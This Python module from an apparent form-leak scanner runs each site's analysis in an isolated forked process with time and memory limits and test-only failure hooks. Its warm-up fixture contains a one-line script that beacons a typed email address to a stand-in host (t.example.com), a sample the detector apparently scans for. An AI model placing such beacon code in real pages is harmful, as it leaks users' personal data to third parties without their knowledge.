"""Run sites' scans in a process apart from the worker, with a per-site time budget and a memory limit.

Each Dask worker keeps one *scan process*: a child forked from the worker (multiprocessing's `fork`
context, so the analyzer is already imported and its rules compiled there) that scans the sites the worker
is given, one after another, each as the pure function `scan_site`. Its address space is limited
(`RLIMIT_AS`) to the memory limit. For every site the worker waits at most the site budget: a scan still
running then is killed with its process and the site is recorded as `budget`. A scan process that dies (a
signal, `os._exit`, running out of memory) is replaced and the site is scanned once more in the new one; a
second death records the site as `crashed`. A scan process is also replaced after `RECYCLE_AFTER` sites, and
when it holds more than half of the memory limit after a site, so that no site runs in what an earlier one
left behind. It watches its parent: when the worker disappears, it exits, so no scan outlives its batch.

The scan process belongs to the worker through a Dask worker plugin (plugin.py, registered by the driver), which stops it when the worker closes. Outside a Dask worker (`task` called directly) a scan
process is started for the one site.

Where a worker may not start processes (a daemonic Dask worker of a cluster not started by formleak), the
scan runs in the worker itself: a crash then takes the worker, and Dask's and the driver's retries apply.

`FORMLEAK_BATCH_TEST_HOOK` (tests only) makes chosen sites misbehave: a comma-separated list of
`PATTERN=ACTION` (PATTERN an fnmatch pattern over site ids; ACTION `exit` (the scan process calls
`os._exit`), `alloc` (it allocates until the memory limit stops it), `raise` (the analyzer raises),
`sleep:SECONDS` (it sleeps before scanning), `worker-exit` (the worker process itself exits)).
"""
from __future__ import annotations

import fnmatch
import multiprocessing
import os
import threading
import time
from pathlib import Path

from analyzer.batch.scan_site import ScanOptions, SiteOutcome, scan_site

HOOK_ENV = "FORMLEAK_BATCH_TEST_HOOK"
PLUGIN_NAME = "formleak-scan-process"
EXIT_NO_MEMORY = 86
RECYCLE_AFTER = 200  # sites per scan process
_GRACE = 5.0  # seconds a scan may outlive its budget before the scan process stops itself (the worker kills it first)


def hook_actions(site: str, env: dict | None = None) -> list[str]:
    spec = (env if env is not None else os.environ).get(HOOK_ENV, "")
    actions = []
    for part in spec.split(","):
        pat, sep, action = part.strip().partition("=")
        if sep and fnmatch.fnmatchcase(site, pat):
            actions.append(action.strip())
    return actions


def _run_hooks(actions: list[str], memory_bytes: int | None) -> None:
    for a in actions:
        if a == "exit":
            os._exit(70)
        elif a == "alloc":
            blocks = []
            cap = memory_bytes * 2 if memory_bytes else 2 << 30
            total = 0
            while total < cap:
                blocks.append(bytearray(64 << 20))
                total += 64 << 20
            raise MemoryError("test hook allocated past the memory limit")
        elif a == "raise":
            raise RuntimeError("test hook: analyzer failure")
        elif a.startswith("sleep:"):
            time.sleep(float(a.split(":", 1)[1]))


def _failed(site: str, input_hash: str, err: str) -> SiteOutcome:
    from analyzer.batch.rows import site_row

    return SiteOutcome(site, "crashed", (site_row(site, "crashed", error=err, input_hash=input_hash),), err)


def _rss() -> int:
    try:
        with open("/proc/self/statm") as fh:
            return int(fh.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")
    except (OSError, ValueError, IndexError):
        return 0


# --------------------------------------------------------------------------------- the scan process


def _watch(parent_pid: int, deadline: list) -> None:
    while True:
        time.sleep(0.5)
        if os.getppid() != parent_pid:
            os._exit(75)  # the worker is gone
        d = deadline[0]
        if d is not None and time.monotonic() > d:
            os._exit(76)  # the worker should have stopped this scan already


def _serve(conn, memory_bytes: int | None, parent_pid: int) -> None:
    """The scan process's loop: (path, site, options, input_hash, budget, actions) in, SiteOutcome out."""
    if memory_bytes:
        import resource

        try:
            resource.setrlimit(resource.RLIMIT_AS, (memory_bytes, memory_bytes))
        except (ValueError, OSError):
            pass
    deadline: list = [None]
    threading.Thread(target=_watch, args=(parent_pid, deadline), daemon=True).start()
    try:
        while True:
            try:
                req = conn.recv()
            except (EOFError, OSError):
                break
            if req is None:
                break
            path, site, options, input_hash, budget, actions = req
            deadline[0] = time.monotonic() + budget + _GRACE if budget else None
            t0 = time.perf_counter()
            try:
                _run_hooks(actions, memory_bytes)
                outcome = scan_site(path, site, options, input_hash)
            except MemoryError:
                raise
            except Exception as e:  # noqa: BLE001 - reported as the site's error, as scan_site does
                outcome = _failed(site, input_hash, f"scan failed: {type(e).__name__}: {e}")
            deadline[0] = None
            outcome.meta["rss"] = _rss()
            outcome.meta["seconds"] = time.perf_counter() - t0
            conn.send(outcome)
    except MemoryError:
        os._exit(EXIT_NO_MEMORY)
    os._exit(0)


def _describe_death(code: int | None, memory_bytes: int | None) -> str:
    if code == EXIT_NO_MEMORY:
        return (f"the scan ran out of memory (limit {memory_bytes / 2**20:.0f} MiB)" if memory_bytes
                else "the scan ran out of memory")
    if code is not None and code < 0:
        import signal

        try:
            name = signal.Signals(-code).name
        except ValueError:
            name = str(-code)
        return f"the scan process was killed by {name}"
    return f"the scan process exited with code {code}"


class ScanProcess:
    """One worker's scan process (see the module docstring); started on first use, replaced after a fault."""

    def __init__(self, memory_bytes: int | None) -> None:
        self.memory_bytes = memory_bytes
        self._proc = None
        self._conn = None
        self._sites = 0

    def _start(self) -> None:
        warm_up()
        ctx = multiprocessing.get_context("fork")  # the analyzer is imported and warm in the fork
        parent, child = ctx.Pipe(duplex=True)
        self._proc = ctx.Process(target=_serve, args=(child, self.memory_bytes, os.getpid()), daemon=True,
                                 name="formleak-scan")
        self._proc.start()
        child.close()
        self._conn = parent
        self._sites = 0

    def stop(self) -> None:
        if self._proc is None:
            return
        try:
            self._conn.send(None)
        except (OSError, ValueError):
            pass
        self._proc.join(2)
        if self._proc.is_alive():
            self._proc.kill()
            self._proc.join()
        self._conn.close()
        self._proc = self._conn = None

    def _kill(self) -> int | None:
        self._proc.kill()
        self._proc.join()
        code = self._proc.exitcode
        self._conn.close()
        self._proc = self._conn = None
        return code

    def scan(self, path: str, site: str, options: ScanOptions, input_hash: str, budget: float | None,
             actions: list[str]) -> tuple[SiteOutcome | None, str | None, bool]:
        """(outcome, None, False) | (None, how the process died, False) | (None, None, True: past the budget)."""
        if self._proc is None or not self._proc.is_alive():
            if self._proc is not None:
                self._kill()
            self._start()
        try:
            self._conn.send((path, site, options, input_hash, budget, actions))
            ready = self._conn.poll(budget if budget else None)
        except (OSError, ValueError):
            ready = True  # the pipe broke: the process died; recv says so
        if not ready:
            self._kill()
            return None, None, True
        try:
            outcome = self._conn.recv()
        except (EOFError, OSError):
            self._proc.join(5)
            code = self._proc.exitcode if not self._proc.is_alive() else self._kill()
            if self._proc is not None:
                self._conn.close()
                self._proc = self._conn = None
            return None, _describe_death(code, self.memory_bytes), False
        self._sites += 1
        if self._sites >= RECYCLE_AFTER or (self.memory_bytes and outcome.meta.get("rss", 0) > self.memory_bytes / 2):
            self.stop()
        return outcome, None, False


_WARM_PAGE = (b'<form id="f"><input id="email" type="email"><button type="submit">Order</button></form>'
              b'<script src="a.js"></script>')
_WARM_JS = (b"document.getElementById('email').addEventListener('blur', function () {"
            b" navigator.sendBeacon('https://t.example.com/c', this.value); });")


def warm_up() -> None:
    """Scan a tiny built-in site in the worker before forking, so that the scan process starts with the
    analyzer's modules imported and the rules' regular expressions and the public-suffix list compiled.
    Only speed depends on it: a scan reads nothing that this leaves behind."""
    import tempfile

    with tempfile.TemporaryDirectory(prefix="formleak-warm-") as d:
        Path(d, "index.html").write_bytes(_WARM_PAGE)
        Path(d, "a.js").write_bytes(_WARM_JS)
        scan_site(d, "warm-up", ScanOptions(), "")


def can_fork() -> bool:
    return not multiprocessing.current_process().daemon


def scan_isolated(path: str, site: str, options: ScanOptions, input_hash: str, *, site_budget: float | None,
                  process: ScanProcess) -> SiteOutcome:
    """Scan one site in `process` (see the module docstring); never raises for a site's fault."""
    from analyzer.batch.rows import site_row

    actions = hook_actions(site)
    t0 = time.perf_counter()
    deaths = []
    for attempt in (1, 2):
        outcome, death, timed_out = process.scan(path, site, options, input_hash, site_budget, actions)
        if outcome is not None:
            return SiteOutcome(outcome.site, outcome.status, outcome.rows, outcome.error,
                               outcome.meta.get("seconds", time.perf_counter() - t0), attempt)
        if timed_out:
            err = f"the scan ran past its {site_budget:g} s site budget and was stopped"
            return SiteOutcome(site, "budget", (site_row(site, "budget", error=err, input_hash=input_hash),),
                               err, time.perf_counter() - t0, attempt)
        deaths.append(death)
    err = "; ".join(f"attempt {i}: {d}" for i, d in enumerate(deaths, 1))
    return SiteOutcome(site, "crashed", (site_row(site, "crashed", error=err, input_hash=input_hash),), err,
                       time.perf_counter() - t0, 2)


def _worker_plugin():
    """The ScanProcessPlugin (plugin.py) of the Dask worker running this task, if registered."""
    try:
        from distributed import get_worker

        return get_worker().plugins.get(PLUGIN_NAME)
    except (ImportError, ValueError):
        return None


def task(path: str, site: str, options: ScanOptions, input_hash: str, site_budget: float | None,
         memory_bytes: int | None) -> SiteOutcome:
    """The function a Dask worker runs for one site."""
    actions = hook_actions(site)
    if "worker-exit" in actions:
        os._exit(71)
    if not can_fork():  # a daemonic worker: scan in the worker itself
        t0 = time.perf_counter()
        _run_hooks(actions, memory_bytes)
        out = scan_site(path, site, options, input_hash)
        return SiteOutcome(out.site, out.status, out.rows, out.error, time.perf_counter() - t0)
    plugin = _worker_plugin()
    if plugin is not None:
        return scan_isolated(path, site, options, input_hash, site_budget=site_budget,
                             process=plugin.process(memory_bytes))
    process = ScanProcess(memory_bytes)
    try:
        return scan_isolated(path, site, options, input_hash, site_budget=site_budget, process=process)
    finally:
        process.stop()
